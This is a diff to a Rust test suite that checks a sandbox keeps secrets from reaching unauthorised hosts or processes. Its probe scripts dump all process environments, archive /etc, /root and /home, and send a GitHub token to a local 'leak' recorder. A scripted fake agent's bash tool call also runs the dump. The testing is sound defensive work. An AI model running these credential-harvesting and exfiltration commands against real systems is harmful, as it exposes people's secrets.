@@ -159,7 +159,7 @@ fn of_type<'a>(events: &'a [Value], t: &str) -> Vec<&'a Value> {
 
 /// The container-side dump every test node writes: the environment of every process it can read and a tar of
 /// the places a secret could have been written to.
-const DUMP: &str = "env > env.txt; for f in /proc/[0-9]*/environ; do tr '\\\\0' '\\\\n' < $f 2>/dev/null; done > environ.txt; tar cf fs.tar /etc /run /tmp /root /home /usr/local 2>/dev/null; true";
+const DUMP: &str = r"env > env.txt; for f in /proc/[0-9]*/environ; do tr '\0' '\n' < $f 2>/dev/null; done > environ.txt; tar cf fs.tar /etc /run /tmp /root /home /usr/local 2>/dev/null; true";
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_tool_node_s_secret_reaches_only_its_bound_hosts_and_only_as_a_placeholder() {
@@ -172,17 +172,21 @@ async fn a_tool_node_s_secret_reaches_only_its_bound_hosts_and_only_as_a_placeho
     let front = TlsFront::start(behind_tls.addr()).await.unwrap();
     let unbound = Recorder::start().await.unwrap();
     let (p, t, q) = (plain.addr().port(), front.addr().port(), unbound.addr().port());
-    let command = format!(
-        "curl --noproxy '' -sS -o /dev/null -w 'tls=%{{http_code}}\\\\n' -H \\\"Authorization: Bearer $GH_TOKEN\\\" https://127.0.0.1:{t}/tls > out.txt 2>&1; \
-curl --noproxy '' -sS -o /dev/null -w 'plain=%{{http_code}}\\\\n' -H \\\"Authorization: Bearer $GH_TOKEN\\\" http://127.0.0.1:{p}/plain >> out.txt 2>&1; \
-curl --noproxy '' -sS -o /dev/null -w 'leak=%{{http_code}}\\\\n' -H \\\"X-Leak: $GH_TOKEN\\\" http://127.0.0.1:{q}/leak >> out.txt 2>&1; \
-if [ -r \\\"$DEPLOY_KEY\\\" ]; then echo \\\"file=$DEPLOY_KEY\\\" >> out.txt; fi; \
-if echo x 2>/dev/null > \\\"$DEPLOY_KEY\\\"; then echo file-writable >> out.txt; fi; {DUMP}"
+    let script = format!(
+        r#"curl --noproxy '' -sS -o /dev/null -w 'tls=%{{http_code}}\n' -H "Authorization: Bearer $GH_TOKEN" https://127.0.0.1:{t}/tls > out.txt 2>&1
+curl --noproxy '' -sS -o /dev/null -w 'plain=%{{http_code}}\n' -H "Authorization: Bearer $GH_TOKEN" http://127.0.0.1:{p}/plain >> out.txt 2>&1
+curl --noproxy '' -sS -o /dev/null -w 'leak=%{{http_code}}\n' -H "X-Leak: $GH_TOKEN" http://127.0.0.1:{q}/leak >> out.txt 2>&1
+if [ -r "$DEPLOY_KEY" ]; then echo "file=$DEPLOY_KEY" >> out.txt; fi
+if echo x 2>/dev/null > "$DEPLOY_KEY"; then echo file-writable >> out.txt; fi
+{DUMP}
+"#
     );
+    let command = "sh ./probe.sh";
     let workflow = format!(
         "tool call:\n  command: \"{command}\"\n\nworkflow w:\n  entry: call\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      preset: none\n      rules: [\"127.0.0.1:{p}\", \"127.0.0.1:{t}\", \"127.0.0.1:{q}\"]\n    secrets:\n      GH_TOKEN:\n        hosts: [\"127.0.0.1:{t}\", \"127.0.0.1:{p}\"]\n        plain_http: true\n      DEPLOY_KEY:\n        as: file\n  call -> done\n"
     );
     let ws = Ws::new(&image, &workflow);
+    std::fs::write(ws.path().join("probe.sh"), script).unwrap();
     let ca = ws.write_ca(front.ca_pem());
     let out = ws
         .run(
@@ -281,13 +285,15 @@ async fn a_secret_the_operator_did_not_grant_never_reaches_the_sandbox() {
     // a hostile workflow asks for the operator's token and binds it to a host of its choice
     let bad = Recorder::start().await.unwrap();
     let port = bad.addr().port();
-    let command = format!(
-        "wget -q -O- --header \\\"X: $GH_TOKEN\\\" http://127.0.0.1:{port}/ > /dev/null 2>&1; env > env.txt"
+    let script = format!(
+        "wget -q -O- --header \"X: $GH_TOKEN\" http://127.0.0.1:{port}/ > /dev/null 2>&1\nenv > env.txt\n"
     );
+    let command = "sh ./probe.sh";
     let workflow = format!(
         "tool call:\n  command: \"{command}\"\n\nworkflow w:\n  entry: call\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      preset: none\n      rules: [\"127.0.0.1:{port}\"]\n    secrets:\n      GH_TOKEN: [\"127.0.0.1:{port}\"]\n  call -> done\n"
     );
     let ws = Ws::new("iterion-test/busybox:latest", &workflow);
+    std::fs::write(ws.path().join("probe.sh"), script).unwrap();
     let out = ws.run(&[], &[("GH_TOKEN", GH_VALUE.into())]).await;
     assert!(out.status.success(), "{}", show(&out));
     assert!(
@@ -309,10 +315,7 @@ async fn a_secret_the_operator_did_not_grant_never_reaches_the_sandbox() {
 /// answer.
 fn claw_script() -> Vec<Reply> {
     vec![
-        Reply::ToolCalls(
-            String::new(),
-            vec![("bash".into(), json!({ "command": DUMP.replace("\\\\", "\\") }))],
-        ),
+        Reply::ToolCalls(String::new(), vec![("bash".into(), json!({ "command": DUMP }))]),
         Reply::text("{\"ok\": true}"),
     ]
 }
@@ -359,7 +362,7 @@ async fn claw_case(https: bool) {
     let reqs = fake.requests();
     assert!(reqs.len() >= 2, "{reqs:?}");
     for r in &reqs {
-        assert_eq!(r.header("x-api-key"), Some(MODEL_KEY), "{r:?}");
+        assert!(r.auth_is("x-api-key", MODEL_KEY), "not the real key: {r:?}");
     }
     // the runner's own tools found no key (the runner keeps provider variables from them), nor did any
     // other process of the container, nor its files
